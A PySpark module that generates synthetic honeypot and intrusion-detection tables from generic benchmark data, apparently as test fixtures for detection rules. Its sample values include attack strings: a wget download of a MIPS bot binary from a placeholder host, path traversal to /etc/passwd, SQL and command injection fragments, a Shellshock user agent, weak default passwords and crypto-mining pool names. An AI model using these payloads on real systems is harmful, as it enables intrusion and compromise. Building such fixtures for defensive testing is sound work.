"""Canonical tables as projections of the driver's tables.

Whole tables, no row is left out. Time filters go to the raw ``ts`` column as well, so
that the Parquet scan can skip row groups.
"""

from __future__ import annotations

from datetime import datetime

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions.classify import mitre_tactic
from ..session import prepare

AS_OF = "2024-01-31 00:00:00"
SALT = "salt"
SCENARIOS = [
    (f"scenario_{i}", f"2024-01-{d:02d} 00:00:00", f"2024-01-{d:02d} 23:59:59")
    for i, d in enumerate((1, 4, 7, 10, 13, 16, 19, 22, 31), start=1)
]

# computed once per row by Views.base; the expressions below refer to the column
K = "k"
H = "substring(sha2(concat('salt', CAST({} AS STRING)), 256), 1, 16)"
SECOND = "date_trunc('second', CAST(ts AS TIMESTAMP))"


def _pick(values, index: str) -> str:
    return "element_at(array(" + ", ".join(repr(v) for v in values) + f"), CAST({index} AS INT) + 1)"


SENSOR = _pick(["cowrie", "dionaea", "conpot", "rtsp", "upnp"], "event_id % 5")
PORT = _pick([22, 23, 2323, 80, 445, 502, 554, 1900, 8080, 3333], f"{K} % 10")
PROTOCOL = _pick(["ssh", "telnet", "telnet", "http", "smb", "modbus", "rtsp", "ssdp", "http", "tcp"], f"{K} % 10")
COMMAND = _pick(
    ["/bin/busybox ECCHI", "wget http://h/bins/a.mips", "uname -a", "stratum+tcp://p", "RETR a.bin", "crontab -e", "ls", ""],
    f"{K} % 8",
)
TECHNIQUE = _pick(["T1110.001", "T1190", "T1046", "T1105", ""], f"{K} % 5")
COUNTRY = "CASE WHEN user_id % 10 = 0 THEN '' ELSE concat('C', user_id % 25) END"
DEST = "concat('172.20.', event_id % 2, '.', 10 + event_id % 5)"
SESSION = "concat(user_id, '-', CAST(CAST(ts AS DATE) AS STRING))"
URI_TAIL = _pick(
    ["", "?q=union select 1", "/../../etc/passwd", "/cgi-bin/x?a=1;id", "/bins/mirai.mips", "/setup.cgi", "/xmrig", "/a.sh"],
    "page_id % 8",
)
AGENT = _pick(["curl/8", "Mozilla", "sqlmap/1", "() { :; }; x", "Hikvision"], "page_id % 5")


class Views:
    """Lazily built canonical tables over one data folder."""

    def __init__(self, spark: SparkSession, folder: str):
        self.spark = prepare(spark)
        self.folder = folder

    def raw(self, table: str) -> DataFrame:
        return self.spark.read.parquet(f"{self.folder}/{table}.parquet")

    def base(self, start: str | None = None) -> DataFrame:
        """The events table with the number held in ``props`` as column ``k``."""
        events = self.raw("events").withColumn("k", F.get_json_object("props", "$.k").cast("int"))
        if start is None:
            return events
        moment = datetime.fromisoformat(start).strftime("%Y-%m-%d %H:%M:%S")
        return events.filter(F.expr(f"ts >= TIMESTAMP_NTZ'{moment}'"))

    def events(self, start: str | None = None) -> DataFrame:
        return self.base(start).selectExpr(
            f"{SECOND} AS timestamp", "event_id", f"{SENSOR} AS honeypot_type",
            f"{H.format('user_id')} AS source_ip_hash", f"{COUNTRY} AS source_ip_country",
            "CAST(1024 + event_id % 60000 AS INT) AS source_port", f"{DEST} AS dest_ip", f"{PORT} AS dest_port",
            f"{PROTOCOL} AS protocol", "event_type", f"{COMMAND} AS command", f"{SESSION} AS session_id",
            "event_type = 'purchase' AS success", "props AS raw_data",
        )

    def alerts(self, start: str | None = None) -> DataFrame:
        rows = self.base(start).filter("event_type = 'error'").selectExpr(
            f"{SECOND} AS timestamp", "event_id AS alert_id", f"{H.format('user_id')} AS source_ip_hash",
            f"{COUNTRY} AS source_ip_country", "CAST(1024 + event_id % 60000 AS INT) AS source_port",
            f"{DEST} AS dest_ip", f"{PORT} AS dest_port", f"{PROTOCOL} AS protocol",
            f"concat('SIG ', 2000001 + {K} % 38) AS alert_signature", f"concat('cat', {K} % 4) AS alert_category",
            "CAST(1 + event_id % 3 AS INT) AS alert_severity", f"CAST(2000001 + {K} % 38 AS BIGINT) AS signature_id",
            f"{COMMAND} AS payload", f"{TECHNIQUE} AS mitre_technique_id",
        )
        return rows.withColumn("mitre_tactic", mitre_tactic("mitre_technique_id"))

    def creds(self, start: str | None = None) -> DataFrame:
        return self.base(start).filter("event_type IN ('signup', 'purchase')").selectExpr(
            f"{SECOND} AS timestamp", "event_id", f"{H.format('user_id')} AS source_ip_hash",
            f"{SENSOR} AS honeypot_type", f"{PROTOCOL} AS protocol",
            _pick(["root", "admin", "user", "pi", "guest"], "user_id % 5") + " AS username",
            _pick(["123456", "password", "abc", "letmein", "Zx9!kk"], f"{K} % 5") + " AS password",
            "event_type = 'purchase' AS success", f"{SESSION} AS session_id",
        )

    def conns(self, start: str | None = None) -> DataFrame:
        return self.base(start).selectExpr(
            f"{SECOND} AS timestamp", "event_id AS uid", f"{H.format('user_id')} AS source_ip_hash",
            f"{COUNTRY} AS source_ip_country", f"{DEST} AS dest_ip", f"{PORT} AS dest_port", f"{PROTOCOL} AS protocol",
            f"CASE WHEN event_id % 7 = 0 THEN '' ELSE {PROTOCOL} END AS service", "value AS duration",
            f"CAST({K} * 60 AS BIGINT) AS orig_bytes", f"CAST({K} * 3 AS BIGINT) AS orig_pkts",
            _pick(["SF", "S0", "REJ", "RSTO", "RSTR"], "event_id % 5") + " AS conn_state",
            _pick(["ShADadFf", "S", "", "ShR"], "event_id % 4") + " AS history", "event_id % 3 <> 1 AS local_orig",
        )

    def requests(self) -> DataFrame:
        path = r"regexp_extract(url, '^[a-z]+://[^/]+([^#]*)', 1)"
        return self.raw("pages").selectExpr(
            "timestamp_seconds(1704067200 + page_id * 60) AS timestamp",
            f"{H.format('page_id % 150')} AS source_ip_hash", "concat('C', page_id % 25) AS source_ip_country",
            "CAST(1024 + page_id % 60000 AS INT) AS source_port", "concat('172.20.0.', 10 + page_id % 5) AS dest_ip",
            "80 AS dest_port", "CASE WHEN page_id % 4 = 0 THEN 'POST' ELSE 'GET' END AS method",
            r"regexp_extract(url, '^[a-z]+://([^/?#]+)', 1) AS host", f"concat({path}, {URI_TAIL}) AS uri",
            f"{AGENT} AS user_agent", "'' AS referrer", "200 AS status_code",
            "CAST(length(html) AS BIGINT) AS response_body_len", "html AS request_body",
        )

    def files(self) -> DataFrame:
        return self.raw("documents").selectExpr(
            "timestamp_seconds(1704067200 + doc_id * 60) AS timestamp", "doc_id AS file_id",
            f"{H.format('doc_id % 150')} AS source_ip_hash", "'dionaea' AS honeypot_type",
            f"concat(source, {_pick(['.sh', '.bin', '.txt', '.mips'], 'doc_id % 4')}) AS filename",
            "n_chars AS file_size", "lang AS mime_type", "md5(text) AS md5_hash", "sha1(text) AS sha1_hash",
            "sha2(text, 256) AS sha256_hash", "concat('http://', source) AS download_url", "'' AS file_path",
        )

    def geo_ranges(self) -> DataFrame:
        return self.raw("nation").selectExpr(
            "CAST(n_nationkey AS BIGINT) * 16777216 AS start_ip",
            "CAST(n_nationkey AS BIGINT) * 16777216 + 16777215 - n_regionkey * 4194304 AS end_ip", "n_name AS country",
        )

    def addresses(self) -> DataFrame:
        return self.raw("customer").selectExpr(
            "c_custkey", "concat(c_nationkey, '.', c_custkey % 256, '.1.1') AS src_ip",
            "CASE WHEN c_custkey % 7 = 0 THEN '' WHEN c_custkey % 11 = 0 THEN '0.0.0.0' "
            "ELSE concat(c_nationkey, '.', c_custkey % 256, '.1.1') END AS listed_ip",
            "CASE WHEN c_custkey % 3 = 0 THEN 'known' ELSE '' END AS source_ip_anon",
        )

    def auth(self) -> DataFrame:
        return self.base().filter("event_type IN ('signup', 'purchase', 'error')").selectExpr(
            f"{SECOND} AS timestamp", f"{H.format('user_id')} AS source_ip_hash", f"{DEST} AS dest_ip",
            "22 AS dest_port", "event_type = 'purchase' AS authenticated",
        )

    def rtsp_requests(self) -> DataFrame:
        return self.base().selectExpr(
            f"{SECOND} AS timestamp", f"{SESSION} AS session_id", "'DESCRIBE' AS method",
            f"repeat('u', {K} * 25) AS url",
            f"CASE WHEN {K} % 2 = 0 THEN concat('Basic ', repeat('A', {K} * 30)) ELSE '' END AS authorization",
        )

    def rtsp_attacks(self) -> DataFrame:
        return self.events().filter("honeypot_type = 'rtsp'").selectExpr(
            "timestamp", "event_id AS attack_id", "source_ip_hash", "source_ip_country", "source_port", "dest_ip",
            "dest_port", "CASE WHEN event_id % 3 = 0 THEN 'CVE-2014-8361 buffer overflow' ELSE 'brute_force' END AS attack_type",
            "'DESCRIBE' AS rtsp_method", "concat('rtsp://', dest_ip) AS rtsp_url", "raw_data AS attack_details",
        )

    def upnp_attacks(self) -> DataFrame:
        return self.events().filter("honeypot_type = 'upnp'").selectExpr(
            "timestamp", "event_id AS attack_id", "source_ip_hash", "source_ip_country", "source_port", "dest_ip",
            "dest_port", "CASE WHEN event_id % 2 = 0 THEN 'AddPortMapping abuse' ELSE 'DeletePortMapping abuse' END AS attack_type",
        )

    def dns(self) -> DataFrame:
        """Name queries: the hosts of the pages, every fifth below a pool name."""
        return self.raw("pages").selectExpr(
            "timestamp_seconds(1704067200 + page_id * 60) AS timestamp", f"{H.format('page_id % 150')} AS source_ip_hash",
            r"concat(CASE WHEN page_id % 5 = 0 THEN 'xmr.nanopool.' ELSE '' END, "
            r"regexp_extract(url, '^[a-z]+://([^/?#]+)', 1)) AS query",
        )

    def test_sources(self) -> DataFrame:
        """Test runs come from the customers of one nation."""
        return self.raw("customer").filter("c_nationkey = 0").selectExpr(f"{H.format('c_custkey')} AS ip_hash")

    def signature_rows(self) -> DataFrame:
        """Shell commands and web requests as one set of matchable rows."""
        events = self.events().selectExpr(
            "event_id AS row_id", "'event' AS row_kind", "source_ip_hash", "timestamp", "protocol", "dest_port",
            "command AS payload", "'' AS uri", "'' AS user_agent", "'' AS header", "'' AS method", "'' AS body",
        )
        pages = self.requests().selectExpr(
            "unix_timestamp(timestamp) AS row_id", "'request' AS row_kind", "source_ip_hash", "timestamp",
            "'http' AS protocol", "dest_port",
            r"concat(method, ' ', uri, '\r\nHost: ', host, '\r\nUser-Agent: ', user_agent, '\r\n\r\n', request_body) AS payload",
            "uri", "user_agent", r"concat('Host: ', host, '\r\nUser-Agent: ', user_agent, '\r\n') AS header", "method",
            "request_body AS body",
        )
        return events.unionByName(pages)

    def byte_rows(self) -> DataFrame:
        """Binary payloads for the byte rules, built from every event."""
        two = f"lpad(hex({K} % 8), 2, '0')"
        return self.base().selectExpr(
            "event_id AS row_id", f"{H.format('user_id')} AS source_ip_hash", f"{SECOND} AS timestamp",
            _pick([502, 445, 47808, 161, 554], "event_id % 5") + " AS dest_port",
            _pick(["modbus", "smb", "bacnet", "snmp", "rtsp"], "event_id % 5") + " AS protocol",
            "unhex(" + "element_at(array("
            f"concat('0000', '0000', '00', {two}, '0000000000', lpad(hex({K}), 2, '0')),"
            f"concat('FF534D42', '73', '00', lpad(hex({K}), 2, '0'), '00000031', 'FEE10000'),"
            f"concat('81', CASE WHEN {K} % 2 = 0 THEN '0C' ELSE '0A' END),"
            f"concat('3004', CASE WHEN {K} % 2 = 0 THEN '7075626C6963' ELSE '70726976' END),"
            f"concat(hex('DESCRIBE rtsp://'), repeat('41', 15), lpad(hex({K}), 2, '0'), '00')"
            "), CAST(event_id % 5 AS INT) + 1)) AS payload",
        )

    def dense_conns(self) -> DataFrame:
        """Two busy hours: one connection per order line, so that short windows fill up."""
        return self.raw("lineitem").selectExpr(
            "timestamp_seconds(1704067200 + l_orderkey % 7200) AS timestamp", "l_orderkey * 10 + l_linenumber AS uid",
            f"{H.format('l_suppkey')} AS source_ip_hash",
            f"{_pick([22, 23, 2323, 80, 445, 502, 554, 8080, 8081, 81], 'l_partkey % 10')} AS dest_port",
            f"{_pick(['ssh', 'telnet', 'telnet', 'http', 'smb', 'modbus', 'rtsp', 'http', 'http', 'http'], 'l_partkey % 10')} AS protocol",
            "l_quantity / 5 AS duration", f"{_pick(['SF', 'S0', 'REJ'], 'l_orderkey % 3')} AS conn_state",
            f"{_pick(['ShADadFf', 'S', ''], 'l_linenumber % 3')} AS history",
            "CAST(l_extendedprice AS BIGINT) AS orig_bytes", "CAST(l_quantity AS BIGINT) * 10 AS orig_pkts",
        )

    def dense_auth(self) -> DataFrame:
        return self.raw("lineitem").selectExpr(
            "timestamp_seconds(1704067200 + l_orderkey % 7200) AS timestamp", f"{H.format('l_suppkey')} AS source_ip_hash",
            "'172.20.0.10' AS dest_ip", "22 AS dest_port", "l_partkey % 20 = 0 AS authenticated",
        )
